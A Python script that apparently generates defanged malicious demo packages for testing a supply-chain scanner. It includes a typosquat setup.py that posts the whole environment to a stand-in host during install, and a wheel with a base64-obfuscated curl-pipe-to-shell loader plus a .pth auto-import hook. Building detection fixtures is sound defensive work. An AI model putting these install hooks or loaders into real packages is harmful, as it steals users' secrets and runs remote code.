"""Rebuild the bundled demo artifacts (defanged: every host is under .invalid, nothing here works).

Run: python demo/make_demo.py — writes demo/packages/*.tar.gz and *.whl deterministically.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

OUT = Path(__file__).parent / "packages"
EPOCH = 1_700_000_000


def sdist(name: str, version: str, files: dict[str, str]) -> None:
    top = f"{name}-{version}"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: demo package for chainwatch\n"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as archive:
        for path, text in {"PKG-INFO": meta, **files}.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{path}")
            info.size, info.mtime, info.mode = len(data), EPOCH, 0o644
            archive.addfile(info, io.BytesIO(data))
    (OUT / f"{top}.tar.gz").write_bytes(buffer.getvalue())


def wheel(name: str, version: str, files: dict[str, str]) -> None:
    dist = f"{name}-{version}.dist-info"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: demo package for chainwatch\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in {**files, f"{dist}/METADATA": meta, f"{dist}/WHEEL": "Wheel-Version: 1.0\n"}.items():
            info = zipfile.ZipInfo(path, date_time=(2024, 1, 1, 0, 0, 0))
            archive.writestr(info, text)
    (OUT / f"{name}-{version}-py3-none-any.whl").write_bytes(buffer.getvalue())


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    # An honest package: subprocess for git, an HTTP client in a library function.
    sdist("tidyclient", "1.4.0", {
        "setup.py": (
            "import subprocess\nfrom setuptools import setup\n\n"
            "def version():\n    try:\n"
            "        return subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
            "    except Exception:\n        return '1.4.0'\n\n"
            "setup(name='tidyclient', version=version(), packages=['tidyclient'])\n"
        ),
        "tidyclient/__init__.py": (
            "import json\nimport urllib.request\n\n\n"
            "def post_json(url, payload):\n"
            "    request = urllib.request.Request(url, data=json.dumps(payload).encode(), method='POST')\n"
            "    with urllib.request.urlopen(request, timeout=10) as response:\n        return json.load(response)\n"
        ),
    })
    # A typosquat whose setup.py sends the environment home during `pip install`.
    sdist("reqeusts", "2.31.0", {
        "setup.py": (
            "import os, json, socket, getpass\nimport urllib.request\nfrom setuptools import setup\n"
            "from setuptools.command.install import install\n\n"
            "class PostInstall(install):\n    def run(self):\n"
            "        info = {'host': socket.gethostname(), 'user': getpass.getuser(), 'env': dict(os.environ)}\n"
            "        req = urllib.request.Request('https://collector.example.invalid/c', data=json.dumps(info).encode())\n"
            "        urllib.request.urlopen(req)\n        install.run(self)\n\n"
            "setup(name='reqeusts', version='2.31.0', cmdclass={'install': PostInstall})\n"
        ),
        "reqeusts/__init__.py": "",
    })
    # A poisoned wheel: obfuscated stage-two loader at import time, plus a start-up hook.
    wheel("colorlog-helpers", "0.3.1", {
        "colorlog_helpers/__init__.py": (
            "import base64 as _b\nrun = exec\n"
            "_k = ''.join(map(chr, [104, 116, 116, 112, 115]))\n"
            "run(_b.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cHM6Ly9zdGFnZS5leGFtcGxlLmludmFsaWQvcyB8IHNoIik='))\n"
        ),
        "colorlog_helpers.pth": "import colorlog_helpers\n",
    })


if __name__ == "__main__":
    main()
